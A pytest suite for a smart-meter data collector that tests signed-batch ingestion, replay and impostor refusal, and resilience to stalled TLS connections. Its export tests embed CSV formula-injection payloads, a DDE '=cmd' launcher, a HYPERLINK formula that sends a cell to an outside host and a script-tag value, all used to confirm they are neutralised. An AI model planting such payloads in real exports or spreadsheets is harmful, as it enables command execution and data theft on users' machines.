# tools/collector.py as a user runs it and as an attacker on the same network meets it
# (issue #19, server side), on loopback with real TLS, a real mosquitto and the real
# uvicorn/paho stacks. Bodies are written and sealed here (json + hmac), apart from the
# collector's tools/wire.py and from the firmware.
import csv
import hashlib
import hmac
import http.client
import io
import json
import os
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time

import pytest

from tools.collector import Collector, MqttSubscriber, csv_cell, serve_http, serve_https
from tools.services import Mosquitto, ensure_pki, wait_port, free_port
from tests.host.fleet_fixtures import db_url, pg_server  # noqa: F401 (fixtures)

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
KEY_HEX = "c0" * 16
KEY = bytes.fromhex(KEY_HEX)
DEV = "0a1b2c"
COLS = ["seq", "kind", "t", "t_src", "apparent_power_va", "energy_import_wh",
        "tariff_period"]


def body(seqs, dev=DEV, ch="https", ctr=1, ep=0, cols=COLS, rows=None, extra=None):
    """A v1 batch written out here (docs/wire-format.md "Body"), unsealed."""
    if rows is None:
        rows = [[s, "reading", 1700000000 + 5 * s, "ntp", 300 + s, 1000 + s, "HC.."]
                for s in seqs]
    d = {"v": 1, "dev": dev, "ep": ep, "first": rows[0][0], "last": rows[-1][0],
         "n": len(rows), "dropped": 0, "aggregated": 0, "cols": cols, "rows": rows}
    if extra:
        d.update(extra)
    if ctr is not None:
        d["ch"] = ch
        d["ctr"] = ctr
    return json.dumps(d, separators=(",", ":")).encode()


def seal(key, b):
    # docs/wire-format.md "Seal": HMAC-SHA256 over the body, } -> ,"sig":"<hex>"}
    return b[:-1] + b',"sig":"' + hmac.new(key, b, hashlib.sha256).hexdigest().encode() + b'"}'


class Https:
    def __init__(self, tmp, keys=None, default_key=None, accept_unsigned=False, db_url=None,
                 **limits):
        self.col = Collector(str(tmp / "col"), keys=keys, default_key=default_key,
                             accept_unsigned=accept_unsigned, db_url=db_url)
        ca, cert, key = ensure_pki(str(tmp / "pki"))
        self.ca_pem = ca
        self.ctx = ssl.create_default_context(cadata=ca)
        self.srv = serve_https(self.col, "127.0.0.1", 0, cert, key, **limits)
        self.port = self.srv.server_port

    def post(self, data, headers=None, timeout=10):
        c = http.client.HTTPSConnection("127.0.0.1", self.port, context=self.ctx,
                                        timeout=timeout)
        try:
            c.request("POST", "/ingest", data, headers or {})
            r = c.getresponse()
            raw = r.read()
            return r.status, json.loads(raw) if raw else None
        finally:
            c.close()

    def get(self, path):
        c = http.client.HTTPSConnection("127.0.0.1", self.port, context=self.ctx, timeout=20)
        try:
            c.request("GET", path)
            r = c.getresponse()
            return r.status, r.getheader("Content-Type"), r.read()
        finally:
            c.close()

    def tls_socket(self):
        raw = socket.create_connection(("127.0.0.1", self.port), timeout=10)
        return self.ctx.wrap_socket(raw, server_hostname="127.0.0.1")

    def close(self):
        self.srv.shutdown()
        self.srv.server_close()
        self.col.close()


@pytest.fixture
def https(tmp_path):
    h = Https(tmp_path, keys={DEV: KEY})
    yield h
    h.close()


def _closed_by_server(sock, within):
    # -> True when the server closes the connection (EOF or reset) within `within` s
    sock.settimeout(within)
    try:
        return sock.recv(1) == b""
    except (ConnectionResetError, ssl.SSLError, BrokenPipeError):
        return True
    except (socket.timeout, TimeoutError):
        return False


def _until(cond, timeout=10):
    # wait for something another thread does (the MQTT subscriber's ingest) -> cond()
    end = time.time() + timeout
    while time.time() < end and not cond():
        time.sleep(0.02)
    return cond()


def _publish(broker, data, dev=DEV):
    import paho.mqtt.publish as publish
    publish.single("linky/%s/batch" % dev, data, qos=1, hostname="127.0.0.1",
                   port=broker.port)


def _counter_rows(col):
    return [tuple(r) for r in col.db.query("SELECT dev, ch, ctr FROM counters ORDER BY dev, ch")]


# -- the CLI -------------------------------------------------------------------------------
@pytest.mark.timeout(120)
def test_collector_cli_prints_its_ca_stores_and_exports(tmp_path):
    port = free_port()
    data = str(tmp_path / "data")
    env = dict(os.environ, LINKY_COLLECTOR_KEY=KEY_HEX)
    p = subprocess.Popen([sys.executable, "-m", "tools.collector", "--data", data,
                          "--https-port", str(port)], cwd=ROOT, env=env,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        lines = []
        while True:
            ln = p.stdout.readline()
            assert ln, p.stderr.read()
            lines.append(ln)
            if ln.startswith("-----END CERTIFICATE"):
                break
        pem = "".join(lines[lines.index("-----BEGIN CERTIFICATE-----\n"):])
        assert os.path.exists(os.path.join(data, "ca.pem"))
        wait_port(port)
        # the key is nowhere on the command line (what `ps` shows)
        with open("/proc/%d/cmdline" % p.pid, "rb") as f:
            assert KEY_HEX.encode() not in f.read()
        ctx = ssl.create_default_context(cadata=pem)

        def post(b):
            c = http.client.HTTPSConnection("127.0.0.1", port, context=ctx, timeout=10)
            c.request("POST", "/ingest", b)
            r = c.getresponse()
            out = r.status, json.loads(r.read())
            c.close()
            return out

        def get(path):
            c = http.client.HTTPSConnection("127.0.0.1", port, context=ctx, timeout=20)
            c.request("GET", path)
            r = c.getresponse()
            out = r.status, r.getheader("Content-Type"), r.read()
            c.close()
            return out
        cols = ["seq", "kind", "t", "t_src", "apparent_power_va", "dt_s",
                "energy_import_wh", "ref_seq"]
        rows = [[s, "reading", 1700000000 + 5 * s, "ntp", 300 + 10 * s, None, 1000 + s, None]
                for s in range(1, 41)]
        rows.append([41, "reading", None, "elapsed", 900, 5, None, 40])
        st, resp = post(seal(KEY, body(None, rows=rows, cols=cols, ctr=1)))
        assert (st, resp["stored"]) == (200, 41), resp
        # the same records again, new counter: stored once
        st, resp = post(seal(KEY, body(range(1, 6), ctr=2)))
        assert (st, resp["stored"], resp["duplicates"]) == (200, 0, 5)
        assert post(b"not json") == (400, {"error": "malformed"})
        st, ctype, b = get("/export.json")
        got = json.loads(b)
        assert len(got) == 41 and got[-1]["t"] == 1700000000 + 5 * 40 + 5  # elapsed, resolved
        assert [g["apparent_power_va"] for g in got[:3]] == [310, 320, 330]
        st, ctype, b = get("/export.csv")
        assert ctype.startswith("text/csv") and b.decode().count("\n") == 42
        st, ctype, b = get("/plot.png")
        assert st == 200 and b[:8] == b"\x89PNG\r\n\x1a\n"
        st, ctype, b = get("/plot.html")
        assert b"<polyline" in b and b"41 readings" in b
        st, ctype, b = get("/stats.json")
        assert json.loads(b)["devices"][DEV]["readings"] == 41
    finally:
        p.send_signal(signal.SIGINT)
        try:
            p.wait(10)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()
    assert p.returncode == 0
    # second run: same CA (the device config stays valid), --plot writes the PNG
    out = subprocess.run([sys.executable, "-m", "tools.collector", "--data", data,
                          "--plot", str(tmp_path / "curve.png")], cwd=ROOT,
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0 and "41 readings" in out.stdout
    assert (tmp_path / "curve.png").read_bytes()[:4] == b"\x89PNG"
    with open(os.path.join(data, "ca.pem")) as f:
        assert f.read() == pem


def test_a_key_on_the_command_line_is_refused_and_key_files_work(tmp_path):
    r = subprocess.run([sys.executable, "-m", "tools.collector", "--data", str(tmp_path),
                        "--key", KEY_HEX, "--plot", str(tmp_path / "x.png")], cwd=ROOT,
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 2 and "--key is refused" in r.stderr
    assert not (tmp_path / "x.png").exists()
    from tools.collector import keys_from_env, load_keys
    kf = tmp_path / "keys"
    kf.write_text("# device keys\n 0A1B2C  %s\n* %s\n" % (KEY_HEX, "d1" * 16))
    os.chmod(kf, 0o600)
    keys, default = load_keys(str(kf))
    assert keys == {DEV: KEY} and default == bytes([0xD1] * 16)
    assert keys_from_env({"LINKY_COLLECTOR_KEYS": str(kf), "LINKY_COLLECTOR_KEY": "e2" * 16}) \
        == ({DEV: KEY}, bytes([0xE2] * 16))
    kf.write_text("%s 00ff\n" % DEV)            # too short: refused, the key not echoed
    with pytest.raises(ValueError) as ei:
        load_keys(str(kf))
    assert "00ff" not in str(ei.value) and ":1:" in str(ei.value)


# -- impostors ------------------------------------------------------------------------------
@pytest.mark.timeout(60)
def test_impostor_unsigned_junk_signed_and_case_variant_ids_are_refused(tmp_path):
    h = Https(tmp_path, keys={DEV: KEY}, accept_unsigned=True)
    try:
        variants = [DEV, "0A1B2C", " 0a1b2c", "0a1b2c\t", " 0A1b2C "]
        for i, dev in enumerate(variants):
            unsigned = body([1], dev=dev, ctr=None)
            assert h.post(unsigned) == (403, {"error": "unsigned"}), dev
            junk = seal(b"\x5a" * 32, body([1], dev=dev, ctr=10 + i))
            assert h.post(junk) == (403, {"error": "bad signature"}), dev
        # a device nobody registered, signing with a key of its own
        assert h.post(seal(b"\x11" * 16, body([1], dev="ffeedd"))) == (
            403, {"error": "unknown device"})
        # the header names another device than the signed body
        assert h.post(seal(KEY, body([1])), {"X-Linky-Device": "ffeedd"}) == (
            403, {"error": "device mismatch"})
        assert h.col.count() == 0 and _counter_rows(h.col) == []
        assert h.col.stats()["devices"] == {}
        # the real device, under a case variant of its id: it is the same device
        st, resp = h.post(seal(KEY, body([1, 2], dev=" 0A1B2C", ctr=1)),
                          {"X-Linky-Device": "0A1B2C"})
        assert st == 200 and resp["stored"] == 2
        assert list(h.col.stats()["devices"]) == [DEV]
        # lab mode takes unsigned batches only from devices without a key
        st, resp = h.post(body([7], dev="lab1", ctr=None))
        assert st == 200 and h.col.count("lab1") == 1
    finally:
        h.close()


@pytest.mark.timeout(60)
def test_plain_http_takes_signed_batches_only_even_in_lab_mode(tmp_path):
    col = Collector(str(tmp_path / "col"), keys={DEV: KEY}, accept_unsigned=True)
    srv = serve_http(col, "127.0.0.1", 0)
    try:
        def post(b):
            c = http.client.HTTPConnection("127.0.0.1", srv.server_port, timeout=10)
            c.request("POST", "/ingest", b)
            r = c.getresponse()
            out = r.status, json.loads(r.read())
            c.close()
            return out
        assert post(body([1], dev="lab1", ctr=None)) == (403, {"error": "unsigned"})
        assert post(seal(KEY, body([1, 2, 3]))) == (
            200, {"ok": True, "stored": 3, "duplicates": 0, "last": 3})
        assert col.count() == 3 and col.count("lab1") == 0
    finally:
        srv.shutdown()
        col.close()


# -- replays and refusals that leave no trace ---------------------------------------------
@pytest.mark.timeout(90)
def test_cross_channel_replay_is_refused(tmp_path):
    broker = Mosquitto().start()
    h = Https(tmp_path, keys={DEV: KEY})
    sub = MqttSubscriber(h.col, "127.0.0.1", broker.port).start()
    try:
        assert sub.connected.wait(10)
        mq = seal(KEY, body([1, 2], ch="mqtt", ctr=50))
        _publish(broker, mq)
        assert _until(lambda: h.col.count() == 2)
        # the MQTT batch replayed over HTTPS: refused, and the counter of the device's
        # HTTPS channel is untouched, so its next genuine batch (ctr 1) goes through
        assert h.post(mq) == (403, {"error": "channel mismatch"})
        st, resp = h.post(seal(KEY, body([3], ctr=1)))
        assert st == 200 and resp["stored"] == 1
        # an HTTPS batch replayed on MQTT, and an MQTT batch on another device's topic
        hs = seal(KEY, body([9], ctr=2))
        _publish(broker, hs)
        _publish(broker, seal(KEY, body([10], ch="mqtt", ctr=51)), dev="ffeedd")
        assert _until(lambda: sum(h.col.refused.values()) >= 3)
        assert h.col.refused == {"channel mismatch": 2, "device mismatch": 1}
        assert h.col.count() == 3
        assert _counter_rows(h.col) == [(DEV, "https", 1), (DEV, "mqtt", 50)]
        # a replay on its own channel is a 409 naming the last counter
        assert h.post(seal(KEY, body([3], ctr=1))) == (409, {"error": "replay",
                                                             "last_ctr": 1})
    finally:
        sub.close()
        h.close()
        broker.stop()


@pytest.mark.timeout(60)
def test_a_refused_batch_leaves_no_trace(https):
    rows = [[1, "reading", 1700000000, "ntp", 300, 1000, "HC.."],
            [2, "reading", 1700000005, "ntp", "300", 1001, "HC.."]]   # a string for a number
    assert https.post(seal(KEY, body(None, rows=rows, ctr=5))) == (400, {"error": "row"})
    for bad in (b'"ctr":true', b'"ctr":"6"', b'"ctr":6.0', b'"ctr":-1'):
        b = body([1, 2], ctr=6).replace(b'"ctr":6', bad)
        assert https.post(seal(KEY, b)) == (400, {"error": "ctr"}), bad
    assert https.col.count() == 0 and _counter_rows(https.col) == []
    # the same counter, now well formed: it was never consumed
    st, resp = https.post(seal(KEY, body([1, 2], ctr=5)))
    assert st == 200 and resp["stored"] == 2
    assert _counter_rows(https.col) == [(DEV, "https", 5)]
    # a failure in the middle of storing (the batch log table gone): rows and counter
    # roll back together, the device is told to retry (503), and the retry lands
    https.col.db.conn.execute("ALTER TABLE batches RENAME TO batches_away")
    assert https.post(seal(KEY, body([3, 4], ctr=6))) == (503, {"error": "storage",
                                                                "detail": "OperationalError"})
    assert https.col.count() == 2 and _counter_rows(https.col) == [(DEV, "https", 5)]
    https.col.db.conn.execute("ALTER TABLE batches_away RENAME TO batches")
    assert https.post(seal(KEY, body([3, 4], ctr=6)))[0] == 200
    assert [r["seq"] for r in https.col.readings()] == [1, 2, 3, 4]


@pytest.mark.timeout(60)
def test_a_body_shorter_than_its_content_length_is_refused(https):
    data = seal(KEY, body([1, 2, 3], ctr=1))
    s = https.tls_socket()
    s.sendall(b"POST /ingest HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
              % (len(data) + 40) + data)
    s.shutdown(socket.SHUT_WR)          # the client closes its side: the body stays short
    s.settimeout(10)
    got = b""
    try:
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
    except (ConnectionResetError, ssl.SSLError):
        pass
    s.close()
    assert not got.startswith(b"HTTP/1.1 200"), got
    assert https.col.count() == 0 and _counter_rows(https.col) == []
    # the same bytes with the right length are a good batch
    assert https.post(data)[0] == 200


@pytest.mark.timeout(120)
def test_on_sqlite_and_postgresql_a_batch_lands_whole_or_not_at_all(tmp_path, db_url):
    h = Https(tmp_path, keys={DEV: KEY}, db_url=db_url)
    try:
        rows = [[1, "reading", 1700000000, "ntp", 300, 1000, "HC.."],
                [2, "reading", 1700000005, "ntp", 301, -1, "HC.."]]      # negative index
        assert h.post(seal(KEY, body(None, rows=rows, ctr=3))) == (400, {"error": "row"})
        assert h.post(seal(KEY, body([1], ch="mqtt", ctr=3))) == (
            403, {"error": "channel mismatch"})
        assert h.col.count() == 0 and _counter_rows(h.col) == []
        st, resp = h.post(seal(KEY, body([1, 2, 3], ctr=3)), {"X-Linky-Device": DEV})
        assert (st, resp["stored"]) == (200, 3)
        assert h.post(seal(KEY, body([4], ctr=3))) == (409, {"error": "replay",
                                                             "last_ctr": 3})
        st, resp = h.post(seal(KEY, body([3, 4], ctr=4)))
        assert (st, resp["stored"], resp["duplicates"]) == (200, 1, 1)
        got = h.col.readings()
        assert [(r["seq"], r["apparent_power_va"], r["energy_import_wh"], r["t"])
                for r in got] == [(s, 300 + s, 1000 + s, 1700000000 + 5 * s)
                                  for s in (1, 2, 3, 4)]
        assert _counter_rows(h.col) == [(DEV, "https", 4)]
        st, _, raw = h.get("/export.csv")
        assert st == 200 and raw.decode().count("\n") == 5
    finally:
        h.close()


# -- exports and pages ----------------------------------------------------------------------
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0", "+41 1234",
           "-2+3", "@SUM(1+1)"]


@pytest.mark.timeout(60)
def test_csv_export_neutralises_formulas(https):
    cols = ["seq", "kind", "t", "t_src", "meter_id", "tariff_period"]
    rows = [[i + 1, "reading", 1700000000 + i, "ntp", v[:64], v[:32]]
            for i, v in enumerate(HOSTILE)]
    assert https.post(seal(KEY, body(None, rows=rows, cols=cols)))[0] == 200
    st, ctype, raw = https.get("/export.csv")
    table = list(csv.DictReader(io.StringIO(raw.decode())))
    assert [r["meter_id"] for r in table] == ["'" + v for v in HOSTILE]
    assert [r["tariff_period"] for r in table] == ["'" + v[:32] for v in HOSTILE]
    for v in ("\tx", "\r=1", "=1"):
        assert csv_cell(v) == "'" + v
    # numbers stay numbers, plain text stays as it is
    assert (csv_cell(-5), csv_cell(2.5), csv_cell("HC.."), csv_cell(None), csv_cell(True)) \
        == (-5, 2.5, "HC..", "", "true")


@pytest.mark.timeout(90)
def test_hostile_rows_do_not_break_the_pages(https):
    assert https.post(seal(KEY, body([1, 2, 3])))[0] == 200
    # rows put straight into the store, as an older collector or another writer could
    # have: a string where a number belongs, a time that is text or out of range, NaN,
    # markup in the device id
    db = https.col.db.conn
    hostile = [
        ("<script>alert(1)</script>", 0, 1, {"seq": 1, "kind": "reading", "t": "yesterday",
                                             "apparent_power_va": "1230"}),
        ("evil", 0, 2, {"seq": 2, "kind": "reading", "t": 1e300, "apparent_power_va": 5}),
        ("evil", 0, 3, {"seq": 3, "kind": "reading", "t": 1700000000,
                        "apparent_power_va": float("nan")}),
        ("evil", 0, 4, {"seq": 4, "kind": "reading", "t": 1700000000,
                        "apparent_power_va": {"x": [1]}, "tariff_period": "=1+1"}),
        ("evil", 0, 5, {"seq": 5, "kind": 7, "t": None}),
        ("evil", 0, 6, {"seq": 6, "kind": "reading", "t": 2 ** 50, "apparent_power_va": 1}),
        ("$\\frac{$", 0, 7, {"seq": 7, "kind": "reading", "t": 1700000000,
                            "apparent_power_va": 1, "=cmd|' /C calc'!A0": 1}),
    ]
    for dev, ep, seq, rec in hostile:
        db.execute("INSERT INTO readings (dev, ep, seq, kind, data, ch, received) "
                   "VALUES (?,?,?,?,?,?,?)",
                   (dev, ep, seq, str(rec.get("kind")), json.dumps(rec), "https", 0.0))
    for path in ("/", "/plot.html", "/export.csv", "/export.json", "/stats.json",
                 "/plot.png"):
        st, ctype, raw = https.get(path)
        assert st == 200, (path, raw[:200])
    st, _, raw = https.get("/export.json")
    # strict JSON (no NaN): the NaN power comes out as null
    rows = json.loads(raw, parse_constant=lambda c: pytest.fail("not JSON: " + c))
    assert [r.get("apparent_power_va", "absent") for r in rows if r["dev"] == "evil"][1] \
        is None
    st, _, page = https.get("/plot.html")
    # the three good ones drawn, and the one of a device whose id is a broken formula
    assert b"<script>" not in page and b"4 readings" in page
    st, _, raw = https.get("/export.csv")
    table = list(csv.DictReader(io.StringIO(raw.decode())))
    assert len(table) == 10
    assert "'=1+1" in [r["tariff_period"] for r in table]
    assert "'=cmd|' /C calc'!A0" in table[0]
    # the server still takes batches
    assert https.post(seal(KEY, body([4], ctr=2)))[0] == 200


# -- connections that stall -----------------------------------------------------------------
@pytest.mark.timeout(120)
def test_stalled_tls_connections_do_not_block_devices(tmp_path):
    # the default handshake timeout (10 s) keeps the stalled ones open while we measure
    h = Https(tmp_path, keys={DEV: KEY}, request_timeout=10)
    stalled = []
    try:
        for i in range(25):
            # TCP open, no ClientHello: a TLS handshake that never starts
            stalled.append(socket.create_connection(("127.0.0.1", h.port), timeout=10))
        for i in range(25):
            # handshake done, then half a request head and silence
            s = h.tls_socket()
            s.sendall(b"POST /ingest HTTP/1.1\r\nContent-Le")
            stalled.append(s)
        times = []
        for ctr in range(1, 6):
            t0 = time.monotonic()
            st, resp = h.post(seal(KEY, body([ctr], ctr=ctr)), timeout=5)
            times.append(time.monotonic() - t0)
            assert st == 200 and resp["stored"] == 1
        print("batch round trips with 50 stalled TLS connections: %s s"
              % " ".join("%.3f" % t for t in times))
        assert max(times) < 1.0, times
        assert h.col.count() == 5
        # the firmware itself (MicroPython unix port, verified TLS, signed batches) in the
        # same crowd: its upload window, handshake included, is acknowledged within 1 s
        from tests.host.uplink_services import Driver
        cfg = {"ssid": "x", "https_url": "https://127.0.0.1:%d/ingest" % h.port,
               "ca_pem": h.ca_pem, "hmac_key": KEY_HEX, "net_timeout_s": 3}
        drv = Driver("micropython", cfg, str(tmp_path / "fw"))
        try:
            drv.cmd("fill 20")
            t0 = time.monotonic()
            r = drv.cmd("send")
            took = time.monotonic() - t0
            assert r["res"]["ok"] and r["count"] == 0, r
        finally:
            drv.close()
        print("firmware upload window (20 readings) with 50 stalled TLS connections: %.3f s"
              % took)
        assert took < 1.0
        assert h.col.count() == 25
    finally:
        for s in stalled:
            s.close()
        h.close()


@pytest.mark.timeout(120)
def test_stalled_connections_are_cut_and_pile_nothing_up(tmp_path):
    h = Https(tmp_path, keys={DEV: KEY}, handshake_timeout=1.0, request_timeout=1.0,
              keep_alive=1, max_connections=200)
    socks = []
    try:
        threads0 = threading.active_count()
        data = seal(KEY, body([1, 2], ctr=1))
        for i in range(20):
            socks.append(("handshake", socket.create_connection(("127.0.0.1", h.port), 10)))
        for i in range(100):
            # a body announced and half sent
            s = h.tls_socket()
            s.sendall(b"POST /ingest HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
                      % len(data) + data[:len(data) // 2])
            socks.append(("body", s))
        # no thread per connection (uvicorn is asynchronous)
        grew = threading.active_count() - threads0
        assert grew <= 4
        t0 = time.monotonic()
        for kind, s in socks:
            assert _closed_by_server(s, max(0.1, 15 - (time.monotonic() - t0))), kind
        print("120 stalled connections: %d more threads, all cut after %.1f s"
              % (grew, time.monotonic() - t0))
        assert h.col.count() == 0 and _counter_rows(h.col) == []
        # a client that is answered and then keeps the connection idle is closed too
        s = h.tls_socket()
        s.sendall(b"GET /stats.json HTTP/1.1\r\nHost: x\r\n\r\n")
        s.settimeout(5)
        assert s.recv(12) == b"HTTP/1.1 200"
        while True:
            try:
                if not s.recv(4096):
                    break
            except (ConnectionResetError, ssl.SSLError, socket.timeout, TimeoutError):
                break
        socks.append(("idle", s))
        assert h.post(data)[0] == 200
    finally:
        for _, s in socks:
            s.close()
        h.close()


@pytest.mark.timeout(60)
def test_connections_past_the_cap_are_cut_at_once(tmp_path):
    h = Https(tmp_path, keys={DEV: KEY}, max_connections=8, request_timeout=30)
    socks = []
    try:
        for i in range(12):
            s = h.tls_socket()
            s.sendall(b"GET /")             # half a request head: held open
            socks.append(s)
        cut = [_closed_by_server(s, 0.5) for s in socks]
        assert cut.count(True) == 4 and cut[:8] == [False] * 8, cut
        for s in socks:
            s.close()
        end = time.time() + 5
        while True:
            try:
                assert h.post(seal(KEY, body([1], ctr=1)))[0] == 200
                break
            except (AssertionError, OSError):
                # the server may not have seen every close yet
                if time.time() > end:
                    raise
                time.sleep(0.1)
    finally:
        h.close()


@pytest.mark.timeout(60)
def test_the_mqtt_subscriber_verifies_the_broker_over_tls(tmp_path):
    from tools.services import write_pki
    cert, key, ca_pem = write_pki(str(tmp_path))
    other_ca = tmp_path / "other-ca.pem"
    other_ca.write_text(write_pki(str(tmp_path), prefix="other")[2])
    ca = tmp_path / "ca.pem"
    ca.write_text(ca_pem)
    broker = Mosquitto(tls=(cert, key)).start()
    col = Collector(str(tmp_path / "col"), keys={DEV: KEY})
    good = MqttSubscriber(col, "127.0.0.1", broker.tls_port, ca_file=str(ca),
                          client_id="good").start()
    bad = MqttSubscriber(col, "127.0.0.1", broker.tls_port, ca_file=str(other_ca),
                         client_id="bad").start()
    try:
        assert good.connected.wait(10)
        _publish(broker, seal(KEY, body([1, 2], ch="mqtt", ctr=1)))
        assert _until(lambda: col.count() == 2) and col.refused == {}
        # a broker whose certificate the given CA did not sign: tried, never connected
        assert _until(lambda: bad.failures >= 2) and not bad.connected.is_set()
    finally:
        good.close()
        bad.close()
        col.close()
        broker.stop()


class MqttCollector:
    # a collector subscribed to its own mosquitto; .sub can be replaced (restarts)
    def __init__(self, tmp):
        self.broker = Mosquitto().start()
        self.col = Collector(str(tmp / "col"), keys={DEV: KEY})
        self.sub = MqttSubscriber(self.col, "127.0.0.1", self.broker.port).start()
        assert self.sub.connected.wait(10)

    def close(self):
        self.sub.close()
        self.col.close()
        self.broker.stop()


@pytest.fixture
def mqtt_col(tmp_path):
    m = MqttCollector(tmp_path)
    yield m
    m.close()


@pytest.mark.timeout(60)
def test_an_mqtt_batch_the_store_could_not_take_is_delivered_again(mqtt_col):
    broker, col, sub = mqtt_col.broker, mqtt_col.col, mqtt_col.sub
    # the database fails for a while (the batch log table gone)
    col.db.execute("ALTER TABLE batches RENAME TO batches_away")
    _publish(broker, seal(KEY, body([1, 2], ch="mqtt", ctr=1)))
    assert _until(lambda: sub.unstored >= 1) and col.count() == 0
    with col.lock:
        col.db.execute("ALTER TABLE batches_away RENAME TO batches")
    # not acknowledged: the broker hands it over again after the reconnect
    assert _until(lambda: col.count() == 2, 20) and _counter_rows(col) == [(DEV, "mqtt", 1)]
    assert col.refused.get("replay") is None


@pytest.mark.timeout(60)
def test_a_previous_collectors_store_is_imported_with_its_bad_rows_left_out(tmp_path):
    import sqlite3
    d = tmp_path / "col"
    d.mkdir()
    # the schema the collector had before tools/wire.py (its own tables), as test data
    old = sqlite3.connect(str(d / "collector.sqlite"))
    old.executescript("""
        CREATE TABLE readings (device TEXT, ep INTEGER, seq INTEGER, kind TEXT, t INTEGER,
          t_src TEXT, dt_s INTEGER, ref_seq INTEGER, data TEXT, channel TEXT, received REAL,
          PRIMARY KEY (device, ep, seq));
        CREATE TABLE counters (device TEXT, channel TEXT, ctr INTEGER,
          PRIMARY KEY (device, channel));
        CREATE TABLE batches (device TEXT, channel TEXT, first INTEGER, last INTEGER,
          n INTEGER, stored INTEGER, dropped INTEGER, aggregated INTEGER, received REAL);""")
    good = [{"seq": s, "kind": "reading", "t": 1700000000 + 5 * s, "t_src": "ntp",
             "apparent_power_va": 300 + s} for s in (1, 2)]
    good.append({"seq": 3, "kind": "reading", "t_src": "elapsed", "dt_s": 5, "ref_seq": 2,
                 "apparent_power_va": 303})
    bad = [{"seq": 4, "kind": "reading", "t": 1700000020, "t_src": "ntp",
            "apparent_power_va": "=HYPERLINK(1)"}, {"seq": 5, "kind": 5}]
    for dev, r in [(DEV, g) for g in good] + [(DEV, b) for b in bad] + [(" 0A1B2C", {
            "seq": 6, "kind": "reading", "t": None, "t_src": "elapsed"})]:
        old.execute("INSERT INTO readings VALUES (?,?,?,?,?,?,?,?,?,?,?)",
                    (dev, 0, r["seq"], None, None, None, None, None, json.dumps(r), "https",
                     0.0))
    old.execute("INSERT INTO counters VALUES (?,?,?)", (DEV, "https:0", 7))
    old.execute("INSERT INTO counters VALUES (?,?,?)", (DEV, "https:3", 9))
    old.commit()
    old.close()
    h = Https(tmp_path, keys={DEV: KEY})
    try:
        got = h.col.readings()
        assert [(r["seq"], r.get("apparent_power_va"), r.get("t")) for r in got] == [
            (1, 301, 1700000005), (2, 302, 1700000010), (3, 303, 1700000015), (6, None, None)]
        assert (d / "collector-v1.sqlite").exists()
        # the previous collector's last counter still holds: a replay stays a replay
        assert h.post(seal(KEY, body([7], ctr=9))) == (409, {"error": "replay",
                                                             "last_ctr": 9})
        assert h.post(seal(KEY, body([7], ctr=10)))[0] == 200
    finally:
        h.close()
    # a second start finds the new store and imports nothing again
    col = Collector(str(d), keys={DEV: KEY})
    assert col.count() == 5
    col.close()


@pytest.mark.timeout(60)
def test_batches_published_while_the_collector_is_away_arrive_when_it_is_back(tmp_path,
                                                                             mqtt_col):
    broker, col = mqtt_col.broker, mqtt_col.col
    mqtt_col.sub.close()              # the collector stops (its session stays)
    _publish(broker, seal(KEY, body([1, 2, 3], ch="mqtt", ctr=1)))
    assert col.count() == 0
    # started again on the same data: same client id, the broker hands the batch over
    sub = mqtt_col.sub = MqttSubscriber(col, "127.0.0.1", broker.port).start()
    assert _until(lambda: col.count() == 3)
    # and another process on the same data (a restarted collector) is the same client
    code = ("import sys; from tools.collector import Collector, MqttSubscriber; "
            "c = Collector(sys.argv[1]); print(MqttSubscriber(c, 'x', 1).client_id)")
    out = subprocess.run([sys.executable, "-c", code, str(tmp_path / "col")], cwd=ROOT,
                         capture_output=True, text=True, timeout=60)
    assert out.stdout.strip() == sub.client_id, out.stderr
    other = MqttSubscriber(Collector(str(tmp_path / "other")), "127.0.0.1", broker.port)
    assert other.client_id != sub.client_id
    other.c.close()
